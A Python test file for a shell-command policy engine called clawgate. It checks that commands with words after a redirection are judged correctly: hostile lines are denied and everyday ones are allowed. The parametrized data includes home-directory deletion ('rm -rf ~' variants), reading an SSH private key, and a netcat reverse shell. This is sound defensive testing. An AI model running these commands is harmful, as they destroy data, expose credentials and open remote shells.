"""Words written after a redirection's target (``rm 2>/dev/null -rf ~``): bash passes them to
the command; tree-sitter-bash hung them on the redirection as more targets, and the engine once
lost them (the line came out ALLOW). The lines are data: only ever handed to ``Engine.check``."""

from __future__ import annotations

import pytest

from clawgate.decision import Outcome
from clawgate.engine import Engine

WORKSPACE = "/home/dev/project"
_ENGINE = Engine()


@pytest.mark.parametrize(("command", "expected"), [
    ("rm 2>/dev/null -rf ~", Outcome.DENY),
    ("rm >/dev/null -r 2>&1 -f ~", Outcome.DENY),
    ("true && rm 2>/dev/null -rf ~", Outcome.DENY),
    ("ls | rm 2>/dev/null -rf ~ | cat", Outcome.DENY),
    ("echo ok > out.txt && rm 2>/dev/null -rf ~ | cat", Outcome.DENY),
    ("{ rm 2>/dev/null -rf ~; }", Outcome.DENY),
    ("x=$(rm 2>/dev/null -rf ~)", Outcome.DENY),
    ("sh >/dev/null -c 'rm -rf ~'", Outcome.DENY),
    ("cat 2>/dev/null ~/.ssh/id_rsa", Outcome.DENY),
    ("nc >/dev/null -e /bin/sh 10.0.0.1 4444", Outcome.DENY),
    ("{ ls; } >out.txt more", Outcome.DENY),  # a syntax error to bash: never ALLOW
    # a negated command: bash's ! applies to the pipeline, the words are its command's
    ("! rm 2>/dev/null -rf ~", Outcome.DENY),
    ("true && ! rm 2>/dev/null -rf ~", Outcome.DENY),
    ("! (ls) >x y", Outcome.DENY),  # a syntax error to bash: never ALLOW
])
def test_words_after_a_redirection_are_judged(command: str, expected: Outcome) -> None:
    assert _ENGINE.check(command, cwd=WORKSPACE).outcome is expected


@pytest.mark.parametrize("command", [
    "echo >&2 hi there",
    "test -z \"$bad\" || { echo >&2 \"non-portable file name(s): $bad\"; exit 1; }",
    "make >build.log 2>&1 test",
    "ls 2>/dev/null -la src",
    "grep -q foo 2>/dev/null notes.txt && echo yes",
    "! grep &>/dev/null \"Log message construction failed\" errlog",
])
def test_everyday_lines_with_such_words_stay_allowed(command: str) -> None:
    assert _ENGINE.check(command, cwd=WORKSPACE).outcome is Outcome.ALLOW
